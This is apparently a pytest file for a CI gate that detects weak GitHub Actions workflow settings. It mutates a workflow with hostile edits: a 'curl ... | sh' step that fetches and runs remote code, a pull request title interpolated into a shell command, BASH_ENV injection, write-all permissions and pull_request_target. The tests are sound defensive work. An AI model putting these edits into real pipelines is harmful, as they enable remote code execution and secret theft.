"""X07: each way a workflow could be loose is found, and ours are not."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from gates.registry import all_gates
from gates.site import ROOT, Site

GATE = all_gates()["X07"]
SABOTAGE = [
    ("upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02", "upload-artifact@v4", "is not pinned by a commit"),
    ("persist-credentials: false", "persist-credentials: true", "keeps its credentials"),
    ("contents: read", "contents: write", "not contents: read"),
    ("permissions:\n  contents: read\n", "", "not contents: read"),
    ("  pull_request:\n", "  pull_request_target:\n", "secrets on code from outside"),
    ("    timeout-minutes: 60\n", "    permissions: write-all\n", "'permissions'"),
    ("    timeout-minutes: 60\n", "    container: somebody/else\n", "'container'"),
    ("    timeout-minutes: 60\n", "    continue-on-error: true\n", "'continue-on-error'"),
    ("permissions:\n", "env:\n  BASH_ENV: x\npermissions:\n", "'env'"),
    ("permissions:\n", "defaults:\n  run:\n    shell: sh -c true\npermissions:\n", "'defaults'"),
    ("run: bash .ci/run\n", "run: bash .ci/run\n        continue-on-error: true\n", "'continue-on-error'"),
    ("run: bash .ci/run\n", "run: bash .ci/run\n        shell: bash -c true\n", "'shell'"),
    ("run: bash .ci/run\n", "run: bash .ci/run\n        if: false\n", "depends on False"),
    ("run: bash .ci/run\n", "run: bash .ci/run\n        env:\n          BASH_ENV: x\n", "sets BASH_ENV"),
    ("if: always()", "if: failure()", "depends on"),
    ("run: bash .ci/run", "run: curl -s https://example.org/x | sh", "not in scripts/"),
    ("run: bash .ci/run", "run: ./scripts/test ${{ github.event.pull_request.title }}", "not in scripts/"),
    ("run: bash .ci/run", "run: ./scripts/test; echo done", "not in scripts/"),
]


@pytest.fixture
def site(tmp_path: Path) -> Site:
    shutil.copytree(ROOT / ".github", tmp_path / ".github")
    return Site(root=tmp_path)


def test_ours_are_tight(site: Site) -> None:
    assert GATE.findings(site) == []


@pytest.mark.parametrize(("old", "new", "detail"), SABOTAGE)
def test_a_loose_workflow_is_red(site: Site, old: str, new: str, detail: str) -> None:
    path = site.root / ".github" / "workflows" / "test.yml"
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    found = GATE.findings(site)
    assert found, "green"
    assert any(f.object == ".github/workflows/test.yml" and detail in f.detail for f in found), found


@pytest.mark.parametrize(
    "name", ["gates.yml", "drift.yml", "previous-release.yml", "evidence.yml", "change-record.yml"]
)
def test_a_missing_workflow_is_red(site: Site, name: str) -> None:
    (site.root / ".github" / "workflows" / name).unlink()
    assert [finding.object for finding in GATE.findings(site)] == [".github/workflows"]
